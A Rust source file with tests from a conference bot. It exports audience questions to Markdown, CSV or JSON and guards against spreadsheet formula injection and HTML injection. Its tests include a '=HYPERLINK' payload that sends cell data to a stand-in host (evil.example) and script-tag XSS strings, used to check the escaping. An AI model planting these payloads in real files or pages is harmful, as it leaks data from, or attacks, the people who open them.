//! The audience's questions for organizers after the conference (`confbot questions`):
//! a Markdown table, CSV (RFC 4180) or JSON, with each question's session title from the
//! schedule when it still has the session.

use crate::questions::Question;
use crate::schedule::Schedule;
use crate::time;

/// The columns, in order, as CSV headers and JSON keys.
const COLUMNS: [&str; 10] = [
    "number",
    "session",
    "title",
    "asker",
    "asker_name",
    "asked_at",
    "status",
    "reason",
    "votes",
    "text",
];

/// The title of a question's session, or "" when the schedule is unknown or lost it.
fn title<'a>(schedule: Option<&'a Schedule>, question: &Question) -> &'a str {
    schedule
        .and_then(|s| s.session(&question.session_id))
        .map_or("", |s| s.title.as_str())
}

/// A Markdown table, one row a question; `|` is escaped, HTML (`<`, `>`, `&`) is escaped so
/// that a renderer shows it as typed, and line breaks become `<br>`.
pub fn markdown(questions: &[Question], schedule: Option<&Schedule>) -> String {
    let mut out = String::from(
        "| Q | Session | Title | Asker | Asked at | Status | Votes | Question |\n\
         |---|---|---|---|---|---|---:|---|\n",
    );
    for q in questions {
        let asker = if q.asker_name.trim().is_empty() || q.asker_name == q.asker {
            q.asker.clone()
        } else {
            format!("{} ({})", q.asker_name, q.asker)
        };
        let status = match q.status.reason() {
            Some(reason) => format!("{}: {reason}", q.status),
            None => q.status.to_string(),
        };
        let asked_at = format!(
            "{} {}",
            q.asked_at.format("%Y-%m-%d %H:%M"),
            time::zone_abbreviation(&q.asked_at)
        );
        let cells = [
            format!("Q{}", q.number),
            q.session_id.clone(),
            title(schedule, q).to_string(),
            asker,
            asked_at,
            status,
            q.votes.to_string(),
            q.text.clone(),
        ];
        let cells: Vec<String> = cells.iter().map(|c| markdown_cell(c)).collect();
        out.push_str(&format!("| {} |\n", cells.join(" | ")));
    }
    out
}

fn markdown_cell(text: &str) -> String {
    text.trim()
        .replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace("\r\n", "\n")
        .replace('\r', "\n")
        .replace('|', "\\|")
        .replace('\n', "<br>")
}

/// CSV as RFC 4180 writes it: a header row, CRLF line ends, and fields holding a comma, a
/// quote or a line break in double quotes with quotes doubled. Times are RFC 3339. A field
/// a spreadsheet would read as a formula starts with `'` (see [`csv_field`]).
pub fn csv(questions: &[Question], schedule: Option<&Schedule>) -> String {
    let mut out = COLUMNS.join(",");
    out.push_str("\r\n");
    for q in questions {
        let fields = [
            q.number.to_string(),
            q.session_id.clone(),
            title(schedule, q).to_string(),
            q.asker.clone(),
            q.asker_name.clone(),
            time::rfc3339(&q.asked_at),
            q.status.to_string(),
            q.status.reason().unwrap_or("").to_string(),
            q.votes.to_string(),
            q.text.clone(),
        ];
        let fields: Vec<String> = fields.iter().map(|f| csv_field(f)).collect();
        out.push_str(&fields.join(","));
        out.push_str("\r\n");
    }
    out
}

/// One CSV field. One starting with `=`, `+`, `-`, `@`, a tab or a carriage return is
/// a formula to a spreadsheet (`=HYPERLINK(…)` in a question would run when the organizer
/// opens the file), so it gets a leading `'`, which spreadsheets read as "this is text".
fn csv_field(field: &str) -> String {
    let field = if field.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{field}")
    } else {
        field.to_string()
    };
    if field.contains([',', '"', '\r', '\n']) {
        format!("\"{}\"", field.replace('"', "\"\""))
    } else {
        field
    }
}

/// A JSON array of objects keyed like the CSV header; `reason` is null unless rejected
/// with one, `title` null when the schedule does not have the session.
pub fn json(questions: &[Question], schedule: Option<&Schedule>) -> String {
    let rows: Vec<serde_json::Value> = questions
        .iter()
        .map(|q| {
            let title = title(schedule, q);
            serde_json::json!({
                "number": q.number,
                "session": q.session_id,
                "title": (!title.is_empty()).then_some(title),
                "asker": q.asker,
                "asker_name": q.asker_name,
                "asked_at": time::rfc3339(&q.asked_at),
                "status": q.status.as_str(),
                "reason": q.status.reason(),
                "votes": q.votes,
                "text": q.text,
            })
        })
        .collect();
    let mut out = serde_json::to_string_pretty(&rows).expect("JSON values serialize");
    out.push('\n');
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::questions::Status;
    use crate::testing::centos;

    fn questions() -> Vec<Question> {
        let asked_at = time::parse_instant("2023-02-03T14:20", chrono_tz::Europe::Brussels).unwrap();
        let q = Question {
            number: 12,
            ask_event: "$a".into(),
            session_id: "network".into(),
            asker: "@alice:example.org".into(),
            asker_name: "Alice, \"Al\"".into(),
            text: "a|b, \"c\"\nsecond line".into(),
            asked_at,
            status: Status::Rejected {
                reason: Some("off topic".into()),
            },
            votes: 3,
            receipt_event: None,
            relay_event: None,
            speakers_event: None,
            triage: None,
        };
        let plain = Question {
            number: 13,
            asker_name: "Bob".into(),
            asker: "@bob:example.org".into(),
            text: "Plain".into(),
            status: Status::Pending,
            votes: 0,
            session_id: "gone".into(),
            ..q.clone()
        };
        vec![q, plain]
    }

    fn schedule() -> Schedule {
        centos()
    }

    #[test]
    fn csv_quotes_what_needs_quoting_and_ends_lines_with_crlf() {
        assert_eq!(
            csv(&questions(), Some(&schedule())),
            "number,session,title,asker,asker_name,asked_at,status,reason,votes,text\r\n\
             12,network,Network management in Enterprise Linux: present and future,'@alice:example.org,\"Alice, \"\"Al\"\"\",2023-02-03T14:20:00+01:00,rejected,off topic,3,\"a|b, \"\"c\"\"\nsecond line\"\r\n\
             13,gone,,'@bob:example.org,Bob,2023-02-03T14:20:00+01:00,pending,,0,Plain\r\n"
        );
    }

    #[test]
    fn markdown_escapes_pipes_and_line_breaks() {
        let table = markdown(&questions(), None);
        let lines: Vec<&str> = table.lines().collect();
        assert_eq!(lines.len(), 4);
        assert_eq!(
            lines[2],
            "| Q12 | network |  | Alice, \"Al\" (@alice:example.org) | 2023-02-03 14:20 CET | rejected: off topic | 3 | a\\|b, \"c\"<br>second line |"
        );
        assert_eq!(
            lines[3],
            "| Q13 | gone |  | Bob (@bob:example.org) | 2023-02-03 14:20 CET | pending | 0 | Plain |"
        );
    }

    #[test]
    fn csv_cells_a_spreadsheet_would_run_as_formulas_start_with_a_quote() {
        let mut q = questions().remove(1);
        q.asker_name = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")".into();
        let typed = ["+1", "-2+3", "@SUM(A1:A2)", "\tx", "\rx", "=1+1", "1+1", "a=b"];
        let rows: Vec<String> = typed
            .iter()
            .map(|text| {
                q.text = text.to_string();
                csv(std::slice::from_ref(&q), None)
            })
            .collect();
        let row = |csv: &str| csv.split_once("\r\n").unwrap().1.to_string();
        assert_eq!(
            row(&rows[0]),
            "13,gone,,'@bob:example.org,\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click\"\")\",2023-02-03T14:20:00+01:00,pending,,0,'+1\r\n"
        );
        let texts: Vec<String> = rows
            .iter()
            .map(|csv| row(csv).trim_end().rsplit_once(",0,").unwrap().1.to_string())
            .collect();
        assert_eq!(
            texts,
            [
                "'+1",
                "'-2+3",
                "'@SUM(A1:A2)",
                "'\tx",
                "\"'\rx\"",
                "'=1+1",
                "1+1",
                "a=b"
            ]
        );
    }

    #[test]
    fn markdown_shows_html_as_typed() {
        let mut q = questions().remove(1);
        q.asker_name = "<b>Bob</b>".into();
        q.text = "Is <script>alert(1)</script> & &amp; safe?\n<img src=x>".into();
        let schedule = crate::schedule::native::parse(
            "[conference]\nname = \"C\"\ntimezone = \"Europe/Brussels\"\n\
             [[sessions]]\nid = \"gone\"\ntitle = \"<i>Rust</i> & C\"\nstart = \"2023-02-03T14:00\"\nend = \"2023-02-03T15:00\"\n",
            "c",
            None,
        )
        .unwrap()
        .schedule;
        let table = markdown(&[q], Some(&schedule));
        assert_eq!(
            table.lines().nth(2),
            Some(
                "| Q13 | gone | &lt;i&gt;Rust&lt;/i&gt; &amp; C | &lt;b&gt;Bob&lt;/b&gt; (@bob:example.org) | 2023-02-03 14:20 CET | pending | 0 | \
                 Is &lt;script&gt;alert(1)&lt;/script&gt; &amp; &amp;amp; safe?<br>&lt;img src=x&gt; |"
            )
        );
    }

    #[test]
    fn json_is_an_array_of_objects() {
        let doc: serde_json::Value = serde_json::from_str(&json(&questions(), Some(&schedule()))).unwrap();
        assert_eq!(
            doc[0],
            serde_json::json!({
                "number": 12,
                "session": "network",
                "title": "Network management in Enterprise Linux: present and future",
                "asker": "@alice:example.org",
                "asker_name": "Alice, \"Al\"",
                "asked_at": "2023-02-03T14:20:00+01:00",
                "status": "rejected",
                "reason": "off topic",
                "votes": 3,
                "text": "a|b, \"c\"\nsecond line",
            })
        );
        assert_eq!(
            (doc[1]["title"].clone(), doc[1]["reason"].clone()),
            (serde_json::Value::Null, serde_json::Value::Null)
        );
        assert_eq!(json(&[], None), "[]\n");
    }
}
